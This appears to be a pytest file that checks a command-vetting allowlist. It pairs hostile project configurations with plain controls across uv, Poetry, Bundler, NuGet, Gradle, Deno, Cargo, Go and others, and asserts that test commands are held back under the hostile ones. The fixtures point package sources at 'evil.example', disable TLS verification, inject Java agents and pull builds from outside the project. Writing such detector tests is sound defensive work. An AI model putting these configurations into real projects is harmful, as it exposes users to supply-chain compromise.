"""Round 9's configuration attacks: a lesson "run the tests with X" published while the project's committed files
made X fetch from an untrusted place, trust a host without its certificate, build from outside the project, or run
tasks in every member of a workspace. Each attack holds; the same command under plain files does not."""

from __future__ import annotations

from pathlib import Path

import pytest

from core.allowlist import command_refusals
from core.io.declared import declared_programs, declared_tasks
from core.vouched import Vouched

_COMMIT = "0123456789abcdef0123456789abcdef01234567"
_PYPROJECT = '[project]\nname = "app"\nversion = "1"\ndependencies = ["requests>=2"]\n'
_CARGO = '[package]\nname = "app"\nversion = "0.1.0"\n'
_GO_MOD = "module example.com/app\n\ngo 1.22\n\nrequire example.com/lib v1.0.0\n"
_PACKAGE_JSON = '{"name": "app", "scripts": {"test": "vitest"}, "devDependencies": {"vitest": "^1"}}'
_PUBSPEC = "name: app\ndependencies:\n  http: ^1.0.0\n  flutter:\n    sdk: flutter\ndev_dependencies:\n  test: any\n"
_SWIFT = (
    'let package = Package(name: "app", dependencies: [\n'
    '  .package(url: "https://github.com/apple/swift-argument-parser", from: "1.0.0"),\n'
    '  .package(path: "Packages/Core"),\n])\n'
)
_NUGET = (
    '<?xml version="1.0" encoding="utf-8"?>\n<configuration>\n  <packageSources>\n    <clear />\n'
    '    <add key="nuget.org" value="https://api.nuget.org/v3/index.json" protocolVersion="3" />\n'
    "  </packageSources>\n</configuration>\n"
)
_GRADLE = "plugins { id 'java' }\nrepositories { mavenCentral() }\n// see http://example.com for docs\n"
_DENO = '{"imports": {"@std/assert": "jsr:@std/assert@1", "chalk": "npm:chalk@5", "~/": "./src/"}}'


def _uv(tool: str) -> str:
    return f"{_PYPROJECT}\n[tool.uv]\n{tool}\n"


# (the files of the attack, the files of its plain control, the command line a lesson shows)
_CASES: list[tuple[dict[str, str], dict[str, str], str]] = [
    # 1. TLS or verification off, plain http, another source
    ({"pyproject.toml": _uv('allow-insecure-host = ["evil.example"]')}, {"pyproject.toml": _PYPROJECT}, "uv run pytest"),
    ({"uv.toml": 'allow-insecure-host = ["evil.example"]\n'}, {"uv.toml": "cache-keys = []\n"}, "uv run pytest"),
    ({"pyproject.toml": _uv('python-install-mirror = "http://evil.example/py"')}, {"pyproject.toml": _PYPROJECT}, "uv sync"),
    ({"pyproject.toml": _uv('keyring-provider = "subprocess"')}, {"pyproject.toml": _uv('keyring-provider = "disabled"')},
     "uv run pytest"),
    ({"Gemfile": 'source "https://rubygems.org"\n', ".bundle/config": '---\nBUNDLE_SSL_VERIFY_MODE: "0"\n'},
     {"Gemfile": 'source "https://rubygems.org"\n', ".bundle/config": '---\nBUNDLE_PATH: "vendor/bundle"\n'},
     "bundle exec rspec"),
    ({".bundle/config": '---\nBUNDLE_MIRROR__HTTPS://RUBYGEMS__ORG/: "http://evil.example"\n'},
     {".bundle/config": '---\nBUNDLE_FROZEN: "true"\nBUNDLE_JOBS: "4"\n'}, "bundle exec rake test"),
    ({".bundle/config": '---\nBUNDLE_PATH: "/opt/gems"\n'}, {".bundle/config": '---\nBUNDLE_PATH: "vendor/bundle"\n'},
     "bundle exec rspec"),
    ({"nuget.config": _NUGET.replace("https://api.nuget.org/v3/index.json", "http://evil.example/v3/index.json")},
     {"nuget.config": _NUGET}, "dotnet test"),
    ({"NuGet.Config": _NUGET.replace("<clear />", '<add key="x" value="https://feed.example/x" />')},
     {"NuGet.Config": _NUGET}, "dotnet test"),
    ({"nuget.config": _NUGET.replace('protocolVersion="3"', 'allowInsecureConnections="true"')},
     {"nuget.config": _NUGET}, "dotnet test"),
    ({"Directory.Build.props": "<Project><PropertyGroup><RestoreAdditionalProjectSources>http://evil.example/"
      "</RestoreAdditionalProjectSources></PropertyGroup></Project>"},
     {"Directory.Build.props": "<Project><PropertyGroup><LangVersion>latest</LangVersion></PropertyGroup></Project>"},
     "dotnet test"),
    ({"Directory.Build.props": "<Project><PropertyGroup><RestoreSources>https://evil.example/</RestoreSources>"
      "</PropertyGroup></Project>"}, {"Directory.Build.props": "<Project />"}, "dotnet build"),
    ({"poetry.toml": '[certificates.evil]\ncert = false\n'}, {"poetry.toml": "[virtualenvs]\nin-project = true\n"},
     "poetry run pytest"),
    ({"poetry.toml": '[repositories.evil]\nurl = "http://evil.example/simple"\n'},
     {"poetry.toml": "[virtualenvs]\ncreate = true\n"}, "poetry install"),
    ({"gradle.properties": "org.gradle.jvmargs=-Xmx2g -javaagent:/tmp/agent.jar\n"},
     {"gradle.properties": "org.gradle.jvmargs=-Xmx2g -Dfile.encoding=UTF-8\norg.gradle.parallel=true\n"},
     "./gradlew test"),
    ({"gradle.properties": "org.gradle.jvmargs=-Djavax.net.ssl.trustStore=evil.jks\n"},
     {"gradle.properties": "kotlin.code.style=official\n"}, "gradle test"),
    ({"build.gradle": "repositories { maven { url 'http://evil.example/m2' } }\n"}, {"build.gradle": _GRADLE},
     "./gradlew test"),
    ({"settings.gradle.kts": 'repositories { maven { url = uri("https://x"); isAllowInsecureProtocol = true } }\n'},
     {"settings.gradle.kts": 'rootProject.name = "app"\n'}, "gradle test"),
    ({"deno.json": '{"importMap": "https://evil.example/map.json"}'}, {"deno.json": '{"importMap": "./import_map.json"}', "import_map.json": _DENO},
     "deno test"),
    ({"deno.json": '{"imports": {"@std/assert": "https://evil.example/assert.ts"}}'}, {"deno.json": _DENO}, "deno test"),
    ({"deno.jsonc": '{"scopes": {"https://x/": {"a": "http://evil.example/a.ts"}}}'}, {"deno.jsonc": _DENO},
     "deno test"),
    ({"build.sbt": 'resolvers += "evil" at "http://evil.example/m2"\n'},
     {"build.sbt": 'name := "app"\nscalaVersion := "3.4.0"\n'}, "sbt test"),
    ({"build.sbt": 'name := "app"\n', "project/plugins.sbt": 'resolvers += Resolver.url("x", url("https://e"))\n'},
     {"build.sbt": 'name := "app"\n', "project/plugins.sbt": 'addSbtPlugin("org.scalameta" % "sbt-scalafmt" % "2")\n'},
     "sbt test"),
    ({"pubspec.yaml": _PUBSPEC + "dependency_overrides:\n  http:\n    git: https://evil.example/http.git\n"},
     {"pubspec.yaml": _PUBSPEC}, "dart test"),
    ({"pubspec.yaml": _PUBSPEC + "  x:\n    hosted: http://evil.example\n    version: ^1.0.0\n"},
     {"pubspec.yaml": _PUBSPEC}, "flutter test"),
    ({"Package.swift": _SWIFT.replace("https://github.com/apple", "https://evil.example/apple")},
     {"Package.swift": _SWIFT}, "swift test"),
    # 2. paths outside the project
    ({"Cargo.toml": _CARGO + 'build = "../outside/build.rs"\n'}, {"Cargo.toml": _CARGO + 'build = "build.rs"\n'},
     "cargo test"),
    ({"Cargo.toml": _CARGO + 'build = "/opt/build.rs"\n'}, {"Cargo.toml": _CARGO}, "cargo test"),
    ({"Cargo.toml": _CARGO + '[workspace.dependencies]\nlib = { path = "../outside" }\n'},
     {"Cargo.toml": _CARGO + '[workspace.dependencies]\nlib = { path = "crates/lib" }\n'}, "cargo test"),
    ({"Cargo.toml": _CARGO + '[dependencies]\nlib = { path = "/opt/lib" }\n'},
     {"Cargo.toml": _CARGO + '[dependencies]\nlib = "1"\n'}, "cargo test"),
    ({"go.mod": _GO_MOD + "replace example.com/lib => ../outside\n"},
     {"go.mod": _GO_MOD + "replace example.com/lib => ./lib\n"}, "go test ./..."),
    ({"go.mod": _GO_MOD + "replace (\n\texample.com/lib v1.0.0 => /opt/lib\n)\n"}, {"go.mod": _GO_MOD}, "go test ./..."),
    ({"go.work": "go 1.22\n\nuse (\n\t.\n\t../outside\n)\n"}, {"go.work": "go 1.22\n\nuse (\n\t.\n\t./tools\n)\n"},
     "go test ./..."),
    ({"global.json": '{"sdk": {"version": "8.0.100", "paths": ["/opt/sdk"]}}'},
     {"global.json": '{"sdk": {"version": "8.0.100"}}'}, "dotnet test"),
    ({"pyproject.toml": _PYPROJECT + '[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = ["../x"]\n'},
     {"pyproject.toml": _PYPROJECT + '[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = ["."]\n'},
     "uv run pytest"),
    ({"pyproject.toml": _PYPROJECT + '[build-system]\nrequires = ["b @ https://evil.example/b.tar.gz"]\n'},
     {"pyproject.toml": _PYPROJECT + '[build-system]\nrequires = ["hatchling>=1.20"]\n'}, "uv run pytest"),
    # 4. dependencies by URL that are no pinned commit of a public forge
    ({"pyproject.toml": _PYPROJECT.replace('"requests>=2"', '"requests @ https://evil.example/requests.whl"')},
     {"pyproject.toml": _PYPROJECT.replace('"requests>=2"', f'"requests @ git+https://github.com/psf/requests@{_COMMIT}"')},
     "uv run pytest"),
    ({"pyproject.toml": _PYPROJECT + '[dependency-groups]\ndev = ["pytest @ git+https://github.com/x/pytest@main"]\n'},
     {"pyproject.toml": _PYPROJECT + '[dependency-groups]\ndev = ["pytest>=8", {include-group = "lint"}]\nlint = []\n'},
     "uv run pytest"),
    ({"pyproject.toml": _PYPROJECT + '[project.optional-dependencies]\nx = ["a @ file:///opt/a"]\n'},
     {"pyproject.toml": _PYPROJECT + '[project.optional-dependencies]\nx = ["a>=1"]\n'}, "uv sync"),
    ({"pyproject.toml": _uv('override-dependencies = ["urllib3 @ https://evil.example/u.whl"]')},
     {"pyproject.toml": _uv('override-dependencies = ["urllib3<2"]')}, "uv run pytest"),
    ({"go.mod": _GO_MOD + "replace example.com/lib => github.com/someone/fork v1.0.0\n"}, {"go.mod": _GO_MOD},
     "go test ./..."),
    ({"package.json": _PACKAGE_JSON.replace('"^1"', '"github:someone/vitest"')}, {"package.json": _PACKAGE_JSON},
     "npm install"),
    ({"package.json": _PACKAGE_JSON[:-1] + ', "devEngines": {"packageManager": {"name": "pnpm",'
      ' "version": "https://evil.example/pnpm.tgz"}}}'},
     {"package.json": _PACKAGE_JSON[:-1] + ', "devEngines": {"packageManager": {"name": "pnpm", "version": "^9"}}}'},
     "pnpm test"),
    ({"gradle.properties": "org.gradle.jvmargs=-Xmx2g\nsystemProp.https.proxyHost=evil.example\n"},
     {"gradle.properties": "org.gradle.jvmargs=-Xmx4g -XX:+HeapDumpOnOutOfMemoryError -Dfile.encoding=UTF-8\n"},
     "./gradlew test"),
    # what the first fixes left beside them: the file a setting names, a sibling build, the launcher's options
    ({"deno.json": '{"importMap": "./import_map.json"}', "import_map.json": '{"imports": {"a": "https://evil.example/a.ts"}}'},
     {"deno.json": '{"importMap": "./import_map.json"}', "import_map.json": _DENO}, "deno test"),
    ({"deno.json": '{"importMap": "./missing.json"}'}, {"deno.json": "{}"}, "deno test"),
    ({"settings.gradle": "includeBuild('../outside')\n"}, {"settings.gradle": "includeBuild('build-logic')\n"},
     "./gradlew test"),
    ({"build.gradle.kts": 'apply(from = "https://evil.example/x.gradle")\n'},
     {"build.gradle.kts": 'apply(from = "gradle/lint.gradle")\n'}, "gradle test"),
    ({"buildSrc/build.gradle": "repositories { maven { url 'http://evil.example' } }\n"},
     {"buildSrc/build.gradle": "repositories { gradlePluginPortal() }\n"}, "./gradlew test"),
    ({".jvmopts": "-Xmx2g\n-javaagent:/tmp/a.jar\n"}, {".jvmopts": "-Xmx2g\n-Xss4m\n"}, "sbt test"),
    ({".sbtopts": "-Dsbt.repository.config=repos.properties\n"}, {".sbtopts": "-J-Xmx2g\n-batch\n"}, "sbt test"),
    ({"pubspec.yaml": _PUBSPEC, "pubspec_overrides.yaml": "dependency_overrides:\n  http:\n    path: ../x\n"},
     {"pubspec.yaml": _PUBSPEC, "pubspec_overrides.yaml": "dependency_overrides:\n  core:\n    path: packages/core\n"},
     "dart test"),
    ({"Cargo.toml": _CARGO + '[lib]\npath = "../elsewhere/lib.rs"\n'}, {"Cargo.toml": _CARGO + '[lib]\npath = "src/lib.rs"\n'},
     "cargo test"),
    ({"pyproject.toml": '[tool.poetry.dependencies]\npython = "^3.11"\nx = { git = "https://github.com/o/x.git", branch = "main" }\n'},
     {"pyproject.toml": f'[tool.poetry.dependencies]\npython = "^3.11"\nx = {{ git = "https://github.com/o/x.git", rev = "{_COMMIT}" }}\n'},
     "poetry run pytest"),
    ({"pyproject.toml": '[tool.poetry.group.dev.dependencies]\ny = { path = "../y", develop = true }\n'},
     {"pyproject.toml": '[tool.poetry.group.dev.dependencies]\ny = { path = "libs/y", develop = true }\n'},
     "poetry install"),
    ({"Pipfile": '[packages]\nrequests = { file = "https://evil.example/requests.tar.gz" }\n'},
     {"Pipfile": '[packages]\nrequests = "*"\n'}, "pipenv run pytest"),
    ({"pyproject.toml": _uv('[tool.uv.workspace]\nmembers = ["../outside/*"]')},
     {"pyproject.toml": _uv('[tool.uv.workspace]\nmembers = ["packages/*"]')}, "uv run pytest"),
    ({"App.csproj": "<Project><PropertyGroup><RestoreSources>http://evil.example/</RestoreSources></PropertyGroup></Project>"},
     {"App.csproj": '<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><TargetFramework>net8.0</TargetFramework>'
      "</PropertyGroup></Project>"}, "dotnet test"),
]  # fmt: skip


def _judged(tmp_path: Path, files: dict[str, str], line: str) -> list[object]:
    for name, text in files.items():
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    vouched = Vouched(programs=declared_programs([tmp_path]), tasks=declared_tasks([tmp_path]))
    return list(command_refusals(line, vouched))


@pytest.mark.parametrize(("attack", "control", "line"), _CASES)
def test_a_config_that_fetches_or_trusts_elsewhere_holds_the_command(
    tmp_path: Path, attack: dict[str, str], control: dict[str, str], line: str
) -> None:
    assert _judged(tmp_path / "attack", attack, line)
    assert _judged(tmp_path / "control", control, line) == []


@pytest.mark.parametrize(
    "line",
    ["turbo run test", "npx turbo run test", "turbo test", "lerna run test", "npx lerna run test",
     "nx run-many -t test", "nx affected -t test", "npx nx run-many --target=test"],
)  # fmt: skip
def test_a_monorepo_runner_that_runs_every_members_tasks_holds(tmp_path: Path, line: str) -> None:
    files = {
        "package.json": '{"name": "mono", "workspaces": ["packages/*"], "scripts": {"test": "turbo run test"},'
        ' "devDependencies": {"turbo": "^2", "lerna": "^8", "nx": "^19"}}',
        "packages/a/package.json": '{"name": "a", "scripts": {"test": "node evil.js"}}',
    }
    refusals = _judged(tmp_path, files, line)
    assert any("several places" in str(r) for r in refusals)


@pytest.mark.parametrize("line", ["turbo ls", "npx lerna list", "nx graph --file=out.json"])
def test_a_monorepo_runners_report_runs(tmp_path: Path, line: str) -> None:
    files = {"package.json": '{"name": "mono", "devDependencies": {"turbo": "^2", "lerna": "^8", "nx": "^19"}}'}
    assert not any("several places" in str(r) for r in _judged(tmp_path, files, line))
